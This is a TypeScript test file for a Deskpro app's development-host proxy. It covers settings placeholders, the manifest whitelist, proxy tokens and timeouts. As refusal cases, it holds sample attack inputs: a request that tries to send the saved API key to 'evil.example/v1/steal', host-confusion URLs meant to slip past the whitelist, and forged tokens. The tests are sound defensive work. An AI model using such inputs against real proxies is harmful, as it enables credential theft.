/**
 * The development host's app proxy, driven by the SDK's real proxyFetch and adminGenericProxyFetch
 * under each order Deskpro might fill placeholders in (before or after checking the whitelist):
 * tokens, the packaged manifest's whitelist, placeholder substitution on the server side, timeouts.
 */
import { adminGenericProxyFetch, proxyFetch } from "@deskpro/app-sdk/esm/proxy/helpers.js";
import { serve, type ServerType } from "@hono/node-server";
import { Hono } from "hono";
import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { packagedManifest } from "../../scripts/package.js";
import { findRule, ManifestProxy, PlaceholderOrder, substituteSettings, type WhitelistRule } from "../../src/devhost/proxy.js";
import { hostServer } from "../../src/devhost/server.js";
import { openHostStore } from "../../src/devhost/store.js";

const SECRET = "tenant-key-that-must-stay-on-the-server";
const ROOT = resolve(import.meta.dirname, "../..");

/** A stand-in upstream that echoes what reached it. */
function upstream() {
  const app = new Hono();
  app.all("/v1/*", async (c) =>
    c.json({ method: c.req.method, path: c.req.path, query: c.req.query(), authorization: c.req.header("authorization") ?? null, body: await c.req.text() }),
  );
  app.get("/slow/v1/x", async (c) => {
    await new Promise((r) => setTimeout(r, 2_500));
    return c.json({ late: true });
  });
  return app;
}

function listen(app: Hono): Promise<{ server: ServerType; url: string }> {
  return new Promise((resolve) => {
    const server = serve({ fetch: app.fetch, port: 0, hostname: "127.0.0.1" }, (info) => resolve({ server, url: `http://127.0.0.1:${info.port}` }));
  });
}

const ORDERS = PlaceholderOrder.options;

describe.each(ORDERS)("the development host's app proxy, filling placeholders in %s", (order) => {
  let up: { server: ServerType; url: string };
  let host: { server: ServerType; url: string };
  let dir: string;

  const auth = async (kind: "app" | "admin") => {
    const response = await fetch(`${host.url}/host/api/proxy-auth`, {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: JSON.stringify({ kind }),
    });
    return (await response.json()) as { proxyUrl: string; token: string; appInstanceId: string };
  };
  const client = { getProxyAuth: () => auth("app"), getAdminGenericProxyAuth: () => auth("admin") };

  beforeAll(async () => {
    up = await listen(upstream());
    dir = mkdtempSync(join(tmpdir(), "devhost-proxy-"));
    const store = openHostStore(join(dir, "devhost.json"));
    store.state.settings = { ledger_url: up.url, ledger_api_key: SECRET, team_name: "Blue & Green" };
    // The manifest as `npm run package` builds it for this ledger, plus a rule with a short timeout.
    const packaged = packagedManifest(JSON.parse(readFileSync(join(ROOT, "manifest.json"), "utf8")), new URL(up.url));
    const manifest = ManifestProxy.parse({
      ...packaged,
      settings: { ...packaged.settings, team_name: {} },
      proxy: { whitelist: [...packaged.proxy.whitelist, { url: "^__ledger_url__/slow/.*$", methods: ["GET"], timeout: 1 }] },
    });
    host = await listen(hostServer({ store, manifest, appDir: dir, pageDir: dir, proxyOrder: order }));
  });
  afterAll(async () => {
    host?.server.close();
    up?.server.close();
    rmSync(dir, { recursive: true, force: true });
  });

  it("forwards the sidebars' requests, written with the placeholders, with settings (plain and urlencoded) filled in on the server", async () => {
    const fetchViaProxy = await proxyFetch(client as never);
    const response = await fetchViaProxy("__ledger_url__/v1/things?team=__team_name.urlencode__", {
      method: "POST",
      headers: { Authorization: "Bearer __ledger_api_key__", "Content-Type": "application/json" },
      body: JSON.stringify({ team: "__team_name__" }),
    });
    expect(response.status).toBe(200);
    const echoed = (await response.json()) as { method: string; path: string; query: Record<string, string>; authorization: string; body: string };
    expect(echoed).toMatchObject({ method: "POST", path: "/v1/things", authorization: `Bearer ${SECRET}` });
    expect(echoed.query.team).toBe("Blue & Green");
    expect(JSON.parse(echoed.body)).toEqual({ team: "Blue & Green" });
  });

  it("forwards the settings page's requests: the URL as typed, the key as typed or by its placeholder", async () => {
    const fetchViaProxy = await adminGenericProxyFetch(client as never);
    const typed = await fetchViaProxy(`${up.url}/v1/config`, { headers: { Authorization: "Bearer typed-key" } });
    expect(((await typed.json()) as { authorization: string }).authorization).toBe("Bearer typed-key");
    // An empty key field after a reload: the saved key, filled in by the proxy.
    const saved = await fetchViaProxy(`${up.url}/v1/config`, { headers: { Authorization: "Bearer __ledger_api_key__" } });
    expect(((await saved.json()) as { authorization: string }).authorization).toBe(`Bearer ${SECRET}`);
    const elsewhere = await fetchViaProxy("https://evil.example/v1/config", { headers: { Authorization: "Bearer __ledger_api_key__" } });
    expect(elsewhere.status).toBe(403);
  });

  it("never sends backend-only settings to the page", async () => {
    const session = await (await fetch(`${host.url}/host/api/session`)).text();
    expect(session).not.toContain(SECRET);
    expect(JSON.parse(session).settings).toEqual({ ledger_url: up.url, team_name: "Blue & Green" });
    expect(JSON.parse(session).apiKeySaved).toBe(true);
  });

  it("refuses URLs and methods the whitelist does not allow, without revealing substituted values", async () => {
    const fetchViaProxy = await proxyFetch(client as never);
    const elsewhere = await fetchViaProxy("https://evil.example/v1/steal?k=__ledger_api_key__", { headers: {} });
    expect(elsewhere.status).toBe(403);
    expect(await elsewhere.text()).not.toContain(SECRET);
    for (const url of ["__ledger_url__/admin", "__ledger_url__.evil.example/v1/x", "__ledger_url__@evil.example/v1/x", `${up.url}@evil.example/v1/things`]) {
      expect((await fetchViaProxy(url, {})).status, url).toBe(403);
    }
    const method = await fetchViaProxy("__ledger_url__/v1/things", { method: "DELETE", headers: {} });
    expect(method.status).toBe(403);
  });

  it("takes only POST with a valid token for its own proxy", async () => {
    const { proxyUrl, token } = await auth("app");
    expect((await fetch(proxyUrl, { method: "GET" })).status).toBe(405);
    const headers = { "X-Proxy-Url": `${up.url}/v1/x`, "X-Proxy-Method": "GET", "X-Proxy-Headers": "{}" };
    expect((await fetch(proxyUrl, { method: "POST", headers })).status).toBe(401);
    expect((await fetch(proxyUrl, { method: "POST", headers: { ...headers, "X-Proxy-Authorization": "Bearer forged" } })).status).toBe(401);
    // An admin token does not open the sidebar proxy.
    const admin = await auth("admin");
    expect((await fetch(proxyUrl, { method: "POST", headers: { ...headers, "X-Proxy-Authorization": `Bearer ${admin.token}` } })).status).toBe(401);
    expect((await fetch(proxyUrl, { method: "POST", headers: { ...headers, "X-Proxy-Authorization": `Bearer ${token}` } })).status).toBe(200);
    expect(
      (await fetch(proxyUrl, { method: "POST", headers: { ...headers, "X-Proxy-Headers": "not json", "X-Proxy-Authorization": `Bearer ${token}` } })).status,
    ).toBe(400);
  });

  it("honours the rule's timeout", async () => {
    const fetchViaProxy = await proxyFetch(client as never);
    const response = await fetchViaProxy("__ledger_url__/slow/v1/x", {});
    expect(response.status).toBe(504);
    expect(((await response.json()) as { code: string }).code).toBe("upstream_timeout");
  });
});

describe("one whitelist for either order", () => {
  const ledger = "https://credits.example.com";
  const settings = { ledger_url: ledger, ledger_api_key: SECRET };
  const packaged = ManifestProxy.parse(packagedManifest(JSON.parse(readFileSync(join(ROOT, "manifest.json"), "utf8")), new URL(ledger)));
  const sidebar = "__ledger_url__/v1/wallets/org%3A42";
  const settingsPage = `${ledger}/v1/config`;
  /** Whether the proxy would forward this request, in each order. */
  const accepts = (whitelist: WhitelistRule[], url: string) =>
    Object.fromEntries(
      ORDERS.map((order) => {
        const rules = order === "substitute-then-match" ? whitelist.map((r) => ({ ...r, url: substituteSettings(r.url, settings) })) : whitelist;
        const checked = order === "substitute-then-match" ? substituteSettings(url, settings) : url;
        return [order, findRule(rules, checked, "GET") !== null];
      }),
    );

  it("lets the app's requests through whichever order Deskpro uses", () => {
    for (const url of [sidebar, settingsPage])
      expect(accepts(packaged.proxy.whitelist, url), url).toEqual({ "substitute-then-match": true, "match-then-substitute": true });
  });

  it("would lose the sidebars under one order with only the fixed address, or only the placeholder", () => {
    const [fixed, placeholder] = packaged.proxy.whitelist;
    expect(accepts([fixed!], sidebar)).toEqual({ "substitute-then-match": true, "match-then-substitute": false });
    expect(accepts([placeholder!], settingsPage)["match-then-substitute"]).toBe(false);
  });
});
